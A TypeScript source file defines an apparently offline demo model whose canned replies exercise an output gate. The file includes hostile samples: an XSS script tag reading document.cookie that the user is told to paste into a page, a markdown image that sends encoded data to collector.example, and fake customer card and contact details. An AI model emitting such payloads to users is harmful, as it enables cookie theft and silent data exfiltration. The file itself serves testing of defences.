import type { JsonObject, JsonValue } from '../json/parse-json.ts'

export interface DemoReply {
  readonly text: string
  readonly toolCall?: { readonly name: string; readonly arguments: string }
}

const INTRODUCTION =
  'I am the demo model: deterministic, offline and not clever. Ask me for personal data, a script, a picture, ' +
  'the weather (with a tool) or a long answer, and watch what the output gate does with it.'

/** What the demo model says, by the words of the last user message. The same request always gets the same reply. */
export function demoReply(request: JsonObject): DemoReply {
  const messages = arrayOf(request['messages'])
  const last = messages.at(-1)
  if (last !== undefined && (last['role'] === 'tool' || last['role'] === 'function')) {
    return { text: `The tool answered: ${textOf(last['content'])}` }
  }
  const question = textOf(messages.findLast((message) => message['role'] === 'user')?.['content'])
  const toolCall = wantedTool(request, question)
  if (toolCall !== undefined) return { text: '', toolCall }
  const says = (pattern: RegExp): boolean => pattern.test(question)
  if (says(/\b(?:personal data|pii|contact|customer|e-?mail|phone|credit card|card number)\b/i))
    return { text: personalData() }
  if (says(/\bscripts?\b/i))
    return { text: 'Here is a widget: <script>alert(document.cookie)</script> Paste it into your page.' }
  if (says(/\b(?:image|picture)s?\b/i)) {
    return { text: 'Here is your picture: ![chart](https://collector.example/pixel.png?d=c2VjcmV0LW5vdGVz) Enjoy.' }
  }
  if (says(/\blong\b/i)) return { text: longText() }
  return { text: question === '' ? INTRODUCTION : `You said: ${question.slice(0, 2_000)}\n\n${INTRODUCTION}` }
}

// Numbers that pass the checksums and belong to nobody (card schemes' test numbers), put together here so that secret
// scanners do not find them in the file.
function personalData(): string {
  const card = ['4111', '1111', '1111', '1111'].join(' ')
  const email = ['jane.roe', 'example.com'].join('@')
  const phone = ['+1', '202', '555', '0143'].join('-')
  return `Customer Jane Roe: e-mail ${email}, phone ${phone}, card ${card}. Anything else?`
}

function longText(): string {
  const sentences: string[] = []
  for (let count = 1; count <= 60; count++) {
    sentences.push(`Sentence number ${count} of this answer says that a gate is only as good as what it looks at.`)
  }
  return sentences.join(' ')
}

/** A tool named in the question, or the offered one that speaks of weather when weather is asked for. */
function wantedTool(request: JsonObject, question: string): DemoReply['toolCall'] {
  if (request['tool_choice'] === 'none') return undefined
  const names = arrayOf(request['tools']).flatMap((tool) => {
    const definition = tool['function']
    return isObject(definition) && typeof definition['name'] === 'string' ? [definition['name']] : []
  })
  const asked = question.toLowerCase()
  const forced = request['tool_choice']
  const forcedName = isObject(forced) && isObject(forced['function']) ? forced['function']['name'] : undefined
  const name =
    names.find((candidate) => candidate === forcedName) ??
    names.find((candidate) => asked.includes(candidate.toLowerCase())) ??
    (asked.includes('weather') ? names.find((candidate) => /weather/i.test(candidate)) : undefined) ??
    (forced === 'required' ? names[0] : undefined)
  if (name === undefined) return undefined
  const place = /\b(?:in|for|at) ([\p{L}][\p{L} -]{1,40})/u.exec(question)?.[1]?.trim() ?? 'Paris'
  return {
    name,
    arguments: JSON.stringify(/weather/i.test(name) ? { location: place } : { query: question.slice(0, 200) }),
  }
}

function textOf(content: JsonValue | undefined): string {
  if (typeof content === 'string') return content
  return arrayOf(content)
    .map((part) => (typeof part['text'] === 'string' ? part['text'] : ''))
    .join(' ')
}

function arrayOf(value: JsonValue | undefined): JsonObject[] {
  return Array.isArray(value) ? value.filter(isObject) : []
}

function isObject(value: JsonValue | undefined): value is JsonObject {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}
